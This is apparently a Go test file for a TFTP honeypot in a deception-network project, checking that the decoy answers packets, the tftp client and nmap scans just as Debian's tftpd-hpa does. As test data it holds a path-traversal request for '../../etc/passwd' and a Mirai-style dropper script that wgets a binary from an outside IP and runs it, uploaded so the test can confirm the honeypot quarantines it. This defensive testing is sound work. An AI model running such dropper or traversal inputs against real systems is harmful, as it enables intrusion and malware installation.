package tftp

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/persona"
	"github.com/decnet/decnet/internal/service/serve"
	"github.com/decnet/decnet/internal/spool"
	"github.com/decnet/decnet/internal/testenv"
)

// This file runs Debian's tftpd-hpa beside the decky, serving the decky's
// own bait files, and drives both with the same packets and with the
// tftp-hpa client.

type decky struct {
	srv    *Server
	addr   string
	events *event.Recorder
	quar   string
}

func startDecky(t *testing.T, settings *Settings) *decky {
	t.Helper()
	a := netip.AddrFrom4([4]byte{127, 69, byte(time.Now().UnixNano() % 250), 9})
	port := testenv.FreePort(t, a)
	rec := event.NewRecorder()
	quar := t.TempDir()
	dist, _ := persona.LookupDistro("debian")
	env := serve.Env{Decky: "decky-test", Identity: persona.NewIdentity("hpa-compare", "decky-test"),
		Addrs: []netip.Addr{a}, Settings: settings, Ports: map[uint16]uint16{Port: port},
		Persona:    serve.Persona{Family: persona.Linux, Distro: dist, Hostname: "SRV-PROD-42"},
		Events:     event.NewEmitter(rec, "t", "decky-test", "tftp", "tftp", slog.New(slog.DiscardHandler)),
		Quarantine: spool.NewQuarantine(quar, 64<<20)}
	srv, err := New(env)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
	d := &decky{srv: srv.(*Server), addr: net.JoinHostPort(a.String(), strconv.Itoa(int(port))), events: rec, quar: quar}
	// Watched in /proc/net/udp: a probe that binds the port itself could
	// take it from the decky starting beside it.
	testenv.Eventually(t, 5*time.Second, "decky tftp bound", func() bool {
		select {
		case err := <-done:
			done <- err // for the cleanup, which waits for it
			t.Fatalf("decky stopped: %v", err)
		default:
		}
		return testenv.UDPBound(netip.AddrPortFrom(a, port))
	})
	return d
}

// startHPA runs in.tftpd in the foreground, --secure --create, on a
// tree holding the decky's text bait files (root-owned, read-only to the
// tftp user; the root directory is the tftp user's, as after Debian's
// postinst).
func startHPA(t *testing.T, tr *tree) string {
	t.Helper()
	bin := testenv.RequireTool(t, "in.tftpd")
	testenv.RequireRoot(t)
	dir, err := os.MkdirTemp("", "tftpd-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	for p, n := range tr.nodes {
		full := filepath.Join(dir, p)
		switch {
		case n.dir:
			os.MkdirAll(full, 0o755)
		case n.size < 1<<20:
			os.MkdirAll(filepath.Dir(full), 0o755)
			b, _ := io.ReadAll(n.open())
			if err := os.WriteFile(full, b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	os.Chmod(dir, 0o777) // writable by the tftp user, as /srv/tftp is its own
	port := testenv.FreePort(t, netip.MustParseAddr("127.0.0.1"))
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	cmd := exec.Command(bin, "-L", "-u", "tftp", "-c", "-s", dir, "-a", addr)
	var log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &log, &log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		if t.Failed() {
			t.Logf("in.tftpd log:\n%s", log.String())
		}
	})
	testenv.Eventually(t, 5*time.Second, "in.tftpd bound", func() bool {
		return testenv.UDPBound(netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), port))
	})
	return addr
}

// converse sends one request and plays a willing client: it ACKs OACKs
// and DATA, answers a write's ACK or OACK with data blocks, and records
// every packet the server sent and whether it came from another port.
func converse(addr string, req []byte, upload []byte) []string {
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		return []string{err.Error()}
	}
	defer c.Close()
	to, _ := net.ResolveUDPAddr("udp", addr)
	c.WriteTo(req, to)
	var out []string
	buf := make([]byte, 70000)
	seg := 512
	sent := 0
	for len(out) < 200 {
		c.SetReadDeadline(time.Now().Add(1500 * time.Millisecond))
		n, from, err := c.ReadFrom(buf)
		if err != nil {
			out = append(out, "silence")
			return out
		}
		p := buf[:n]
		tid := "tid=same"
		if from.(*net.UDPAddr).Port != to.Port {
			tid = "tid=new"
		}
		out = append(out, fmt.Sprintf("%s %q", tid, p))
		switch {
		case len(p) >= 2 && p[1] == opOACK && req[1] == opRRQ:
			if i := bytes.Index(p, []byte("blksize\x00")); i >= 0 {
				v, _ := strtoumax(string(p[i+8 : i+8+bytes.IndexByte(p[i+8:], 0)]))
				seg = int(v)
			}
			c.WriteTo([]byte{0, opACK, 0, 0}, from)
		case len(p) >= 4 && p[1] == opDATA:
			c.WriteTo([]byte{0, opACK, p[2], p[3]}, from)
			if n-4 < seg {
				return out
			}
		case len(p) >= 4 && (p[1] == opACK || p[1] == opOACK) && req[1] == opWRQ:
			if sent > len(upload) {
				return out
			}
			blk := sent/512 + 1
			end := min(sent+512, len(upload))
			c.WriteTo(append([]byte{0, opDATA, byte(blk >> 8), byte(blk)}, upload[sent:end]...), from)
			sent += 512
		case len(p) >= 2 && p[1] == opERROR:
			return out
		}
	}
	return out
}

func TestAgainstRealTFTPD(t *testing.T) {
	d := startDecky(t, &Settings{Write: "create", MaxUpload: 1 << 20, PerSource: 4})
	hpa := startHPA(t, d.srv.tree)
	up := bytes.Repeat([]byte("mirai-payload\n"), 100)
	cases := []struct {
		name   string
		req    string
		upload []byte
	}{
		{"missing", "\x00\x01nope\x00octet\x00", nil},
		{"startup-config", "\x00\x01startup-config\x00octet\x00", nil},
		{"absolute", "\x00\x01/startup-config\x00octet\x00", nil},
		{"netascii", "\x00\x01pxelinux.cfg/default\x00netascii\x00", nil},
		{"dotdot", "\x00\x01../../etc/passwd\x00octet\x00", nil},
		{"dotdot inside", "\x00\x01pxelinux.cfg/../startup-config\x00octet\x00", nil},
		{"through a file", "\x00\x01startup-config/x\x00octet\x00", nil},
		{"dir", "\x00\x01pxelinux.cfg\x00octet\x00", nil},
		{"dir opts", "\x00\x01pxelinux.cfg\x00octet\x00tsize\x000\x00", nil},
		{"mode mail", "\x00\x01x\x00mail\x00", nil},
		{"no mode", "\x00\x01x\x00", nil},
		{"empty name", "\x00\x01\x00octet\x00", nil},
		{"options", "\x00\x01startup-config\x00octet\x00blksize\x001400\x00tsize\x000\x00timeout\x003\x00foo\x00bar\x00", nil},
		{"option case", "\x00\x01startup-config\x00OCTET\x00BlkSize\x00100\x00TSIZE\x000\x00", nil},
		{"blksize 4", "\x00\x01startup-config\x00octet\x00blksize\x004\x00", nil},
		{"blksize big", "\x00\x01startup-config\x00octet\x00blksize\x0099999\x00", nil},
		{"blksize2", "\x00\x01startup-config\x00octet\x00blksize2\x001000\x00", nil},
		{"netascii tsize", "\x00\x01startup-config\x00netascii\x00tsize\x000\x00", nil},
		{"timeout 0", "\x00\x01startup-config\x00octet\x00timeout\x000\x00", nil},
		{"utimeout", "\x00\x01startup-config\x00octet\x00utimeout\x0050000\x00", nil},
		{"rollover", "\x00\x01startup-config\x00octet\x00rollover\x001\x00", nil},
		{"value not a number", "\x00\x01startup-config\x00octet\x00blksize\x0012ab\x00", nil},
		{"option without value", "\x00\x01startup-config\x00octet\x00blksize\x00", nil},
		{"unterminated", "\x00\x01abc", nil},
		{"unterminated option", "\x00\x01startup-config\x00octet\x00blksize\x00100", nil},
		{"data to port 69", "\x00\x03\x00\x01hello", nil},
		{"ack to port 69", "\x00\x04\x00\x01", nil},
		{"opcode 9", "\x00\x09abc", nil},
		{"write existing", "\x00\x02startup-config\x00octet\x00", nil},
		{"write into bait dir", "\x00\x02pxelinux.cfg/evil\x00octet\x00", nil},
		{"write missing dir", "\x00\x02a/b/c\x00octet\x00", nil},
		{"write new", "\x00\x02upload-a.bin\x00octet\x00", up},
		{"write new opts", "\x00\x02upload-b.bin\x00octet\x00tsize\x001400\x00blksize\x00512\x00", up},
		{"read back", "\x00\x01upload-a.bin\x00octet\x00", nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			want := converse(hpa, []byte(tc.req), tc.upload)
			got := converse(d.addr, []byte(tc.req), tc.upload)
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("request %q\nin.tftpd:\n%s\ndecky:\n%s", tc.req, strings.Join(want, "\n"), strings.Join(got, "\n"))
			}
		})
	}
	e, ok := d.events.Wait(3*time.Second, func(e event.Event) bool {
		return e.Type == "tftp.file.upload" && e.Fields["path"] == "upload-a.bin"
	})
	if !ok {
		t.Fatal("no upload event")
	}
	if sha, _ := e.Fields["sha256"].(string); sha == "" || e.Fields["size"] != len(up) || e.Fields["complete"] != true {
		t.Errorf("upload event %v", e.Fields)
	} else if b, err := os.ReadFile(filepath.Join(d.quar, sha)); err != nil || !bytes.Equal(b, up) {
		t.Errorf("quarantine holds %d bytes (%v)", len(b), err)
	}
}

// TestTFTPClient drives the decky and in.tftpd with Debian's tftp client.
func TestTFTPClient(t *testing.T) {
	bin := testenv.RequireTool(t, "tftp")
	d := startDecky(t, &Settings{Write: "create", MaxUpload: 1 << 20, PerSource: 4})
	hpa := startHPA(t, d.srv.tree)
	dir := t.TempDir()
	local := filepath.Join(dir, "payload.sh")
	os.WriteFile(local, []byte("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/mips; chmod +x mips; ./mips\n"), 0o644)
	run := func(addr string, args ...string) (string, []byte) {
		host, port, _ := net.SplitHostPort(addr)
		out := filepath.Join(dir, "out-"+strings.ReplaceAll(addr, ":", "_"))
		os.Remove(out)
		cmd := exec.Command(bin, append([]string{"-m", "binary", host, port, "-c"}, args...)...)
		cmd.Dir = dir
		text, _ := cmd.CombinedOutput()
		b, _ := os.ReadFile(filepath.Join(dir, args[len(args)-1]))
		return strings.TrimSpace(string(text)), b
	}
	for _, tc := range [][]string{
		{"get", "startup-config", "got-config"},
		{"get", "no-such-file", "got-missing"},
		{"put", "payload.sh", "payload.sh"},
	} {
		wantText, wantFile := run(hpa, tc...)
		os.Remove(filepath.Join(dir, tc[2]))
		if tc[0] == "put" {
			os.WriteFile(local, []byte("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/mips; chmod +x mips; ./mips\n"), 0o644)
		}
		gotText, gotFile := run(d.addr, tc...)
		t.Logf("tftp %v: in.tftpd %q, decky %q", tc, wantText, gotText)
		if gotText != wantText || !bytes.Equal(gotFile, wantFile) {
			t.Errorf("tftp %v: decky said %q (%d bytes), in.tftpd %q (%d bytes)", tc, gotText, len(gotFile), wantText, len(wantFile))
		}
	}
	if _, ok := d.events.Wait(3*time.Second, func(e event.Event) bool {
		return e.Type == "tftp.file.upload" && e.Fields["path"] == "payload.sh" && e.Fields["sha256"] != nil
	}); !ok {
		t.Error("no upload event for the put")
	}
	if _, ok := d.events.Wait(3*time.Second, func(e event.Event) bool {
		return e.Type == "tftp.file.download" && e.Fields["path"] == "no-such-file" && e.Fields["error_code"] == 1
	}); !ok {
		t.Error("no download event for the missing file")
	}
}

// TestNmapLikeTFTPD compares nmap -sU -sV of the decky and in.tftpd.
func TestNmapLikeTFTPD(t *testing.T) {
	t.Parallel() // nmap waits out its probes: let the rest of the package run meanwhile
	if testenv.Short() {
		t.Skip("nmap -sV is slow")
	}
	testenv.RequireTool(t, "nmap")
	d := startDecky(t, &Settings{Write: "create", MaxUpload: 1 << 20, PerSource: 4})
	hpa := startHPA(t, d.srv.tree)
	// nmap waits out every UDP probe on a port that answers from
	// another: the two scans run at once.
	wantc := make(chan string, 1)
	go func() {
		said := ""
		defer func() { wantc <- said }() // also when nmap fails the test
		host, port, _ := net.SplitHostPort(hpa)
		said = testenv.NmapUDPService(t, host, port)
	}()
	host, port, _ := net.SplitHostPort(d.addr)
	got := testenv.NmapUDPService(t, host, port)
	want := <-wantc
	t.Logf("nmap -sU -sV: in.tftpd %q, decky %q", want, got)
	if got != want {
		t.Errorf("nmap: decky %q, in.tftpd %q", got, want)
	}
}
